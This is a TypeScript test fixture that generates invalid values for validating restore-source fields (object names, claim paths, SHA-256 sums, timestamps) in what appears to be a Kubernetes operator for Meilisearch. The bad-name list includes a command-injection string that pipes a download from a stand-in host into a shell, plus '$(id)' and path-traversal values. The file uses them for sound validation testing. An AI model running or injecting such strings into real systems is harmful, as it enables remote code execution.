// What breaks each rule of a source of data, wherever one stands: in a MeiliRestore, and in the bootstrap of a managed instance.

interface Which {
  readonly which?: number
}
type Bad = readonly [at: string, says: string, change: readonly (readonly [string, unknown])[], more?: Which]
type Source = 'snapshotRef' | 'latestOf' | 'artifact' | 'file'

const oneSource = 'source is snapshotRef, latestOf, artifact or file: write exactly one of them'
const sourcePath =
  'path leads from the root of the claim: relative, no part of it begins with a dot: write for example movies/daily'
const sha256 = 'sha256 is that of the file: 64 lower-case hexadecimal digits, as in SHA256SUMS'
const instant = 'asOf is an instant with its offset: write for example 2026-11-30T03:00:00Z'
const object = 'name must be the name of an object in this namespace: lower-case letters, digits, - and .'
const claimName =
  'name must be the name of a PersistentVolumeClaim in this namespace: lower-case letters, digits, - and .'

export const names = ['Movies', '$(id)', 'a\n', 'movies; curl -s evil.example|sh #']
export const paths = ['/a', '../a', 'a/../b', '.a', 'a/.b', 'a//b', 'a/', 'a\\b', 'a\nb', 'a\u0000b', 'a\u0085b']
const sums = ['', 'x', 'A'.repeat(64), `${'0'.repeat(63)}g`, '0'.repeat(63), `sha256:${'0'.repeat(57)}`]
const instants = [
  '',
  'yesterday',
  '2026-11-30',
  '2026-11-30 03:00:00Z',
  '2026-11-30T03:00:00',
  '2026-11-30T24:00:00Z',
  '0',
]
const otherSource = { snapshotRef: { name: 'nightly' }, file: { claim: { name: 'backups' }, path: 'a' } }

/** @param at where the source stands @param which of the complete objects has which source */
export function badSources(at: string, which: Readonly<Record<Source, Which>>): readonly Bad[] {
  const of = (source: Source, member: string, [says, values]: readonly [string, readonly unknown[]]): readonly Bad[] =>
    values.map((value): Bad => {
      const path = `${at}.${source}.${member}`
      return [path, says, [[path, value]], which[source]]
    })
  const onClaim = (source: 'artifact' | 'file'): readonly Bad[] => [
    ...of(source, 'claim.name', [claimName, names]),
    ...of(source, 'path', [sourcePath, paths]),
    ...of(source, 'sha256', [sha256, sums]),
  ]
  return [
    ...[{}, otherSource].map((value): Bad => [at, oneSource, [[at, value]], which.snapshotRef]),
    ...of('snapshotRef', 'name', [object, names]),
    ...of('latestOf', 'schedule.name', [object, names]),
    ...of('latestOf', 'asOf', [instant, instants]),
    ...onClaim('artifact'),
    ...onClaim('file'),
  ]
}
